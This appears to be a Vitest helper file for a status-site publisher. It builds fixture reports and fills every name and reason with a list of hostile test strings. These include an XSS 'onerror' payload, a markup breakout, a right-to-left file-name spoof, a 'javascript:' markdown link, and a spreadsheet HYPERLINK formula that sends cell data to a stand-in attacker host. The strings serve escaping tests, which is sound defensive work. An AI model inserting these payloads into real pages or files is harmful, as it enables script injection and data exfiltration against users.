import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { onTestFinished } from 'vitest';
import type { Naming } from '../publish/tag-ids.ts';
import { readReport } from '../read-report.ts';
import type { FullReport } from '../src/data/report.ts';
import { writeFirstRun, writeFixture } from './fixture.ts';

/** Where a site stands whose address and repository are known. */
export const PUBLISHED: Naming = {
  base: '/puptime/',
  siteUrl: 'https://example.github.io/puptime/',
  repositoryUrl: 'https://github.com/example/puptime',
};

/** Where a site stands of which nothing is known. */
export const UNPUBLISHED: Naming = { base: '/', siteUrl: null, repositoryUrl: null };

const MARKUP =
  '</script><img src=x onerror=alert(1)>]]>--><![CDATA[&amp;lt;b&gt; "\'` \u202egnp.exe \u0000\u000b\ufffe\ud800';

/** Texts that mean harm somewhere: in markup, in a spreadsheet, in a line, by their direction, by their length. */
export const HARMFUL = [
  MARKUP,
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1,2;"3"\r\n@SUM(A1)\t-2',
  '\u0627\u0644\u062a\u0633\u062c\u064a\u0644 \u0648\u0627\u0644\u0627\u0646\u062a\u062e\u0627\u0628',
  'x'.repeat(500),
  '[](javascript:alert(1)) ![x](//evil.example) | `code`',
];

/** A folder that does not exist yet; what is put there is removed when the running test ends. */
export function newFolder(): string {
  const parent = mkdtempSync(join(tmpdir(), 'puptime-publish-'));
  onTestFinished(() => rmSync(parent, { recursive: true }));
  return join(parent, 'out');
}

/** The report of the fixture. */
export function aReport(sites = 20): FullReport {
  return readReport(writeFixture(newFolder(), { sites }));
}

/** The report before the first run. */
export function aFirstReport(): FullReport {
  return readReport(writeFirstRun(newFolder()));
}

/** The same with harmful texts for every name and every reason. */
export function aHostileReport(): FullReport {
  const report = aReport();
  const harmful = (index: number) => HARMFUL[index % HARMFUL.length] ?? '';
  const reasonsOf = (index: number) => [
    { kind: 'error-page' as const, rule: 'x', phrase: harmful(index) },
    { kind: 'dns' as const, host: harmful(index + 1), code: harmful(index + 2) },
  ];
  return {
    ...report,
    sites: report.sites.map((site, index) => ({
      ...site,
      name: harmful(index),
      groupName: harmful(index + 1),
      state: site.state && { ...site.state, reasons: reasonsOf(index) },
    })),
    groups: report.groups.map((group, index) => ({ ...group, name: harmful(index) })),
    kinds: report.kinds.map((kind, index) => ({ ...kind, name: harmful(index) })),
    incidents: report.incidents.map((incident, index) => ({ ...incident, reasons: reasonsOf(index) })),
  };
}

/** Every file below a folder by its path. */
export function filesIn(folder: string): Map<string, Buffer> {
  const entries = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  );
  const paths = entries.map((entry) => join(entry.parentPath, entry.name)).sort();
  return new Map(paths.map((path) => [relative(folder, path), readFileSync(path)]));
}
